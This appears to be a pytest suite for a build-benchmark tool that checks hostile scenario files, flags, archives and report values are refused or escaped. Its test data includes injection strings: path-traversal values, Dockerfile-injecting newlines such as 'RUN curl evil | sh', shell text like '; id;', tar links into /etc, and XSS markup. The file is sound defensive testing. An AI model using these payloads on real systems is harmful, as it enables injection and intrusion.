"""Hostile input: one case per rule of what a scenario file or a flag may hold, each
refused with its one-line error (file, key and value; exit 2 through the command line),
and the escapes where values are shown."""

from __future__ import annotations

import dataclasses
import io
import tarfile
from pathlib import Path

import pytest

from bench import inputs
from bench.cli import main
from bench.errors import SourceUnavailable, UsageError
from bench.platforms import parse_platform
from bench.scenarios import sources
from bench.scenarios.loader import load_scenario_file
from bench.strategies import REGISTRY
from bench.strategies.base import BuildSettings
from bench.tools import registry
from tests.conftest import ROOT

GOOD = """
name = "hostile"
platforms = ["linux/amd64", "linux/arm64"]
[source]
path = "src"
[toolchain]
packages = ["gcc", "make", "libc6-dev"]
[build]
command = 'make CC="$CC"'
touch = "t.c"
env = { OPT = "-O2" }
[artifacts]
"build/t" = "/usr/local/bin/t"
[smoke]
command = ["/usr/local/bin/t"]
expect = "arch={arch}"
"""


@pytest.fixture(autouse=True)
def no_run(monkeypatch):
    """A hostile case must stop before anything is built: a run that starts fails."""
    from bench.engine import runner

    def refuse(*_a, **_k):
        raise AssertionError("the hostile input was not refused: a run started")

    monkeypatch.setattr(runner, "execute", refuse)


def scenario_dir(tmp_path: Path, text: str = GOOD) -> Path:
    folder = tmp_path / "hostile"
    (folder / "src").mkdir(parents=True, exist_ok=True)
    (folder / "src" / "t.c").write_text("int main(void){return 0;}\n")
    (folder / "scenario.toml").write_text(text)
    return folder / "scenario.toml"


def refused(capsys, file: Path, key: str, value: str) -> str:
    """Run the scenario through the command line; return its one-line error after
    checking exit 2 and that it names the file, the key and the value."""
    assert main(["run", str(file), "--strategy", "cross"]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert str(file) in err and key in err and value in err, err
    return err


# ---- scenario files ------------------------------------------------------------------


def test_the_shipped_scenarios_still_load():
    files = sorted((ROOT / "scenarios").glob("*/scenario.toml"))
    files += sorted((ROOT / "tests" / "data" / "scenarios").glob("*/scenario.toml"))
    assert len(files) >= 6
    for file in files:
        s = load_scenario_file(file)
        assert s.name == file.parent.name
        assert not inputs.has_control(s.build_command)


def test_a_good_hostile_template_loads(tmp_path):
    # The cases below differ from this by one value each.
    assert load_scenario_file(scenario_dir(tmp_path)).touch == "t.c"


@pytest.mark.parametrize(
    "old,new,key,value",
    [
        ('touch = "t.c"', 'touch = "../../outside.txt"', "build.touch", "../../outside.txt"),
        ('touch = "t.c"', 'touch = "/etc/passwd"', "build.touch", "/etc/passwd"),
        ('path = "src"', 'path = "../elsewhere"', "source.path", "../elsewhere"),
        ('"build/t" = ', '"../t" = ', "artifacts.../t", "../t"),
        ('"/usr/local/bin/t"', '"/usr/../../etc/t"', "artifacts.build/t", "/usr/../../etc/t"),
    ],
    ids=["touch-dotdot", "touch-absolute", "source-outside", "artifact-built", "artifact-image"],
)
def test_paths_stay_inside_the_tree(capsys, tmp_path, old, new, key, value):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "outside.txt").write_text("keep\n")
    file = scenario_dir(tmp_path, GOOD.replace(old, new))
    refused(capsys, file, key, value)


def test_a_symlink_out_of_the_source_folder_is_refused(capsys, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("host file\n")
    file = scenario_dir(tmp_path)
    (file.parent / "src" / "leak.c").symlink_to(secret)
    err = refused(capsys, file, "source.path", "leak.c")
    assert "symlink" in err


def test_a_symlinked_touch_file_is_refused(capsys, tmp_path):
    # Even a link inside the tree: a warm build edits a regular file or nothing.
    file = scenario_dir(tmp_path, GOOD.replace('touch = "t.c"', 'touch = "link.c"'))
    (file.parent / "src" / "link.c").symlink_to("t.c")
    refused(capsys, file, "build.touch", "link.c")


def test_copying_a_tree_refuses_a_link_out(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "out").symlink_to("/etc")
    with pytest.raises(SourceUnavailable, match="leading out of"):
        sources.copy_tree(tmp_path / "src", tmp_path / "copy")
    assert not (tmp_path / "copy" / "out").exists()


def test_a_warm_build_never_edits_a_file_outside_its_context(tmp_path):
    # A Scenario made without the loader: the point of use checks again.
    outside = tmp_path / "outside.txt"
    outside.write_text("keep\n")
    scenario = load_scenario_file(scenario_dir(tmp_path))
    hostile = dataclasses.replace(scenario, touch=str(outside))
    strategy = REGISTRY["native"]
    settings = BuildSettings("127.0.0.1:5000", 1, "debian:{suite}", 60, cache="warm", nonce="n")
    with pytest.raises(UsageError, match="build.touch"):
        strategy._context(hostile, settings)
    assert outside.read_text() == "keep\n"
    hostile = dataclasses.replace(scenario, touch="../../../outside.txt")
    with pytest.raises(UsageError, match="build.touch"):
        strategy._context(hostile, settings)
    assert outside.read_text() == "keep\n"


@pytest.mark.parametrize(
    "old,new,key,value",
    [
        (
            "command = 'make CC=\"$CC\"'",
            'command = "make\\nRUN curl evil | sh"',
            "build.command",
            "RUN curl evil",
        ),
        (
            '"build/t" = "/usr/local/bin/t"',
            '"build/t" = "/t\\nRUN id"',
            "artifacts.build/t",
            "RUN id",
        ),
        ('OPT = "-O2"', 'OPT = "x\\"; id; \\""', "build.env.OPT", "id;"),
        ('"make", "libc6-dev"', '"make; id", "libc6-dev"', "toolchain.packages", "make; id"),
        ('expect = "arch={arch}"', 'expect = "a\\u001b[31m"', "smoke.expect", "\\x1b"),
        (
            'name = "hostile"',
            'name = "hostile"\nbase_image = "debian AS x\\nRUN id"',
            "base_image",
            "RUN id",
        ),
    ],
    ids=["command-newline", "artifact-newline", "env-quote", "package-shell", "escape", "base"],
)
def test_no_control_character_or_shell_text_reaches_a_dockerfile(
    capsys, tmp_path, old, new, key, value
):
    assert old in GOOD
    refused(capsys, scenario_dir(tmp_path, GOOD.replace(old, new)), key, value)


def test_name_is_a_slug(capsys, tmp_path):
    file = scenario_dir(tmp_path, GOOD.replace('name = "hostile"', 'name = "../../x"'))
    err = refused(capsys, file, "key name", "../../x")
    assert "slug" in err


def test_strip_is_bounded(capsys, tmp_path):
    text = GOOD.replace(
        'path = "src"', 'url = "http://x/y.tar.gz"\nsha256 = "' + "0" * 64 + '"\nstrip = -1'
    ).replace('touch = "t.c"\n', "")
    refused(capsys, scenario_dir(tmp_path, text), "source.strip", "-1")


def test_empty_values_are_errors(capsys, tmp_path):
    file = scenario_dir(tmp_path, GOOD.replace('touch = "t.c"', 'touch = ""'))
    refused(capsys, file, "build.touch", "''")


def test_a_continued_command_is_one_dockerfile_line(tmp_path):
    text = GOOD.replace("command = 'make CC=\"$CC\"'", "command = '''\nmake \\\n  CC=\"$CC\"\n'''")
    s = load_scenario_file(scenario_dir(tmp_path, text))
    assert s.build_command == 'make   CC="$CC"'


def dockerfile_instructions(text: str) -> list[str]:
    """Return a Dockerfile's instructions as BuildKit reads them: continuation lines
    joined, blank and comment lines dropped."""
    out: list[str] = []
    pending = ""
    for line in text.split("\n"):
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        out.append(pending + line)
        pending = ""
    return out


def test_a_newline_in_a_value_cannot_add_a_dockerfile_instruction(tmp_path):
    scenario = load_scenario_file(scenario_dir(tmp_path))
    settings = BuildSettings(
        "127.0.0.1:5000", 1, "debian:{suite}", 60, host=parse_platform("linux/amd64")
    )
    pkgimage = load_scenario_file(ROOT / "scenarios" / "pkgimage" / "scenario.toml")
    image_final = ["ARG", "ARG", "ADD", "ENV", "ENV", "CMD"]
    expected = {
        # The last stage of a compile scenario copies files and names its CMD: it is
        # documented to run nothing. An image scenario's recipe runs there (one RUN),
        # except under cross, which runs no target code.
        (scenario, "native"): ["COPY", "CMD"],
        (scenario, "qemu-user"): ["COPY", "CMD"],
        (scenario, "cross"): ["COPY", "CMD"],
        (pkgimage, "native"): ["ARG", "ARG", "RUN", *image_final],
        (pkgimage, "qemu-user"): ["ARG", "ARG", "RUN", *image_final],
        (pkgimage, "cross"): ["COPY", *image_final],
    }
    for (s, name), final in expected.items():
        lines = dockerfile_instructions(REGISTRY[name].dockerfile(s, settings))
        start = max(i for i, line in enumerate(lines) if line.startswith("FROM "))
        assert [line.split()[0] for line in lines[start + 1 :]] == final, (name, s.name)
    strategy = REGISTRY["cross"]
    for hostile in (
        dataclasses.replace(scenario, build_command="make\nRUN id"),
        dataclasses.replace(
            scenario, artifacts=(dataclasses.replace(scenario.artifacts[0], path="/t\nRUN id"),)
        ),
        dataclasses.replace(scenario, build_env=(("OPT", "x\nRUN id"),)),
        dataclasses.replace(pkgimage, image=dataclasses.replace(pkgimage.image, run="x\nRUN id")),
    ):
        with pytest.raises(UsageError, match="control character"):
            strategy.dockerfile(hostile, settings)
    # Through the loader, the same value never gets that far.
    bad = GOOD.replace("command = 'make CC=\"$CC\"'", 'command = "make\\nRUN id"')
    with pytest.raises(UsageError, match="build.command"):
        load_scenario_file(scenario_dir(tmp_path, bad))


# ---- flags ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv,needle",
    [
        (["run", "--timeout", "nan"], "argument --timeout"),
        (["run", "--timeout", "inf"], "argument --timeout"),
        (["run", "--timeout", "0"], "argument --timeout"),
        (["run", "--size", "100000"], "bad --size '100000'"),
        (["run", "--size", ""], "argument --size"),
        (["run", "--reps", "1e9"], "argument --reps"),
        (["run", "--warmup", "-1"], "argument --warmup"),
        (["run", "--retries", "999"], "argument --retries"),
        (["run", "--builder", "x;id"], "argument --builder"),
        (["run", "--registry", ""], "argument --registry"),
        (["compare", "a", "b", "--threshold", "nan"], "argument --threshold"),
        (["compare", "a", "b", "--threshold", "inf"], "argument --threshold"),
        (["compare", "a", "b", "--alpha", "nan"], "argument --alpha"),
        (["history", "--alpha", "1"], "argument --alpha"),
    ],
)
def test_numbers_are_bounded_and_finite_and_empty_is_an_error(capsys, argv, needle):
    assert main(argv) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and needle in err, err
    assert repr(argv[-1]) in err


# ---- the registry address ------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "http://127.0.0.1:5000",
        "127.0.0.1:5000/v2",
        "127.0.0.1:0",
        "127.0.0.1:65536",
        "127.0.0.1",
        "a b:5000",
        "127.0.0.1:5000\nx: y",
        "127.0.0.1:+50",
        "[::1:5000",
    ],
)
def test_a_registry_address_is_host_and_port(capsys, value):
    assert main(["setup", "--registry", value]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "--registry" in err and repr(value) in err, err


def test_archbench_s_own_registry_is_on_loopback_and_its_config_adds_no_line():
    for ok in ("127.0.0.1:5000", "127.9.9.9:5001", "localhost:5000", "[::1]:5000"):
        assert registry.require_loopback(ok) == ok
        text = registry.config_text(ok)
        assert (f"  addr: {ok}\n" in text or f'  addr: "{ok}"\n' in text) and text.count(
            "\n"
        ) == registry.config_text("127.0.0.1:5000").count("\n")
    for remote in ("10.0.0.1:5000", "0.0.0.0:5000", "example.com:5000", "127.0.0.1.nip.io:5000"):
        with pytest.raises(UsageError, match="not on loopback"):
            registry.config_text(remote)
    with pytest.raises(UsageError, match="bad registry"):
        registry.config_text("127.0.0.1:5000\nstorage: {}")


def test_the_environment_s_registry_is_checked_too(monkeypatch):
    monkeypatch.setenv("ARCHBENCH_REGISTRY", "127.0.0.1:5000\nx")
    with pytest.raises(UsageError, match=r"ARCHBENCH_REGISTRY"):
        registry.registry_address(None)


# ---- downloads and archives ----------------------------------------------------------


def tarball(path: Path, members: list[tarfile.TarInfo], data: bytes = b"") -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for m in members:
            tar.addfile(m, io.BytesIO(data) if m.isfile() else None)
    return path


def member(name: str, size: int = 0, **kw: object) -> tarfile.TarInfo:
    m = tarfile.TarInfo(name)
    m.size = size
    for k, v in kw.items():
        setattr(m, k, v)
    return m


def test_a_download_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    big = tmp_path / "big.tar.gz"
    big.write_bytes(b"x" * 5000)
    monkeypatch.setattr(sources, "MAX_DOWNLOAD_BYTES", 4096)
    item = sources.Fetch(big.as_uri(), "0" * 64)
    with pytest.raises(SourceUnavailable, match="larger than the 4096 bytes"):
        sources.fetch(item, tmp_path / "cache")
    assert not list((tmp_path / "cache").rglob("*.gz"))


def test_an_archive_over_the_unpacked_limit_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(sources, "MAX_UNPACKED_BYTES", 1000)
    archive = tarball(
        tmp_path / "bomb.tar.gz", [member("p/a", 800), member("p/b", 800)], b"\0" * 800
    )
    with pytest.raises(tarfile.TarError, match="more than the 1000 bytes"):
        sources.unpack_tarball(archive, tmp_path / "out", strip=1)
    assert not (tmp_path / "out" / "a").exists()


def test_links_out_of_a_tarball_are_refused_and_hard_links_follow_the_strip(tmp_path):
    link_out = tarball(
        tmp_path / "l.tar.gz", [member("p/x", type=tarfile.SYMTYPE, linkname="../../etc/passwd")]
    )
    with pytest.raises(tarfile.TarError):
        sources.unpack_tarball(link_out, tmp_path / "l", strip=1)
    hard = tarball(
        tmp_path / "h.tar.gz",
        [member("p/a.c", 3), member("p/b.c", type=tarfile.LNKTYPE, linkname="p/a.c")],
        b"abc",
    )
    sources.unpack_tarball(hard, tmp_path / "h", strip=1)
    assert (tmp_path / "h" / "b.c").read_bytes() == b"abc"


def test_a_damaged_deb_ends_with_an_error_not_a_loop():
    head = f"{'debian-binary':<16}{0:<12}{0:<6}{0:<6}{100644:<8}{-60:<10}`\n".encode()
    with pytest.raises(ValueError, match="bad size '-60'"):
        sources.deb_data_member(b"!<arch>\n" + head + b"x" * 100)


def test_a_deb_data_tarball_leading_out_of_the_image_is_refused(tmp_path):
    bad = io.BytesIO()
    with tarfile.open(fileobj=bad, mode="w:xz") as tar:
        tar.addfile(member("./../../etc/cron.d/x", 0), io.BytesIO(b""))
    with pytest.raises(ValueError, match="leads out of the image root"):
        sources.check_image_tarball(bad.getvalue())


# ---- records and reports -------------------------------------------------------------


def test_a_record_never_lands_outside_its_run_folder(tmp_path):
    from bench.engine.results import Record, RunStore

    store = RunStore(tmp_path / "results", "run1")
    record = Record("cell", "run1", "../../../x", 1, "native", "linux/../../y", 1, "ok", 1.0, "t")
    path = store.add(record)
    assert path.parent == store.path / "records"
    assert store.log_path("../../z").parent == store.path / "logs"


def test_values_are_escaped_where_shown(tmp_path):
    from rich.console import Console
    from rich.markup import escape
    from rich.table import Table as RichTable

    from bench.report import charts
    from bench.report import writer as htmlreport

    hostile = "[bold red]x[/] | <script>alert(1)</script>\n# heading $x^2$"
    md = htmlreport.render_markdown(
        [htmlreport.Table(("cell",), ((hostile,),)), htmlreport.Bullets((hostile,))], tmp_path
    )
    row = [line for line in md.splitlines() if "<script>" in line][0]
    assert row.startswith("| ") and "\\|" in row and row.count(" | ") == 0
    assert "\n# heading" not in md
    page = htmlreport.render_html([htmlreport.Table(("cell",), ((hostile,),))], "t")
    assert "<script>" not in page and "&lt;script&gt;" in page
    console = Console(file=io.StringIO(), width=200, color_system=None)
    table = RichTable("cell")
    table.add_row(escape(hostile.replace("\n", " ")))
    console.print(table)
    assert "[bold red]x[/]" in console.file.getvalue()
    fig = charts.plt.figure()
    text = fig.text(0, 0, "$x^2$")
    assert text._preprocess_math(text.get_text()) == ("$x^2$", False)
    charts.plt.close(fig)


def test_show_prints_stored_markup_as_text(capsys, tmp_path):
    from bench.engine.results import Record, RunStore

    store = RunStore(tmp_path, "run1")
    store.write_manifest({"status": "[blink]done[/blink]"})
    store.add(
        Record("cell", "run1", "[red]evil[/red]", 1, "native", "linux/amd64", 1, "ok", 1.0, "t")
    )
    assert main(["show", "run1", "--results", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "[red]evil[/red]" in out and "[blink]done[/blink]" in out


def test_a_download_s_cached_name_stays_in_the_cache():
    assert sources.cache_name("http://x/..") == "download"
    assert sources.cache_name("http://x/a/..%2F..%2Fetc") == "_2F.._2Fetc"
    assert sources.cache_name("http://x/zlib_1.2.13.orig.tar.gz") == "zlib_1.2.13.orig.tar.gz"


def test_a_source_tarball_with_a_link_out_fails_naming_its_url(tmp_path):
    import hashlib

    archive = tarball(
        tmp_path / "l.tar.gz",
        [member("p/x", type=tarfile.SYMTYPE, linkname="/etc/passwd")],
    )
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    main = sources.Fetch(archive.as_uri(), digest, strip=1)
    with pytest.raises(SourceUnavailable, match=f"{archive.as_uri()}: cannot unpack"):
        sources.materialize(main, None, (), cache=tmp_path / "cache")
    assert not list((tmp_path / "cache" / "trees").iterdir())
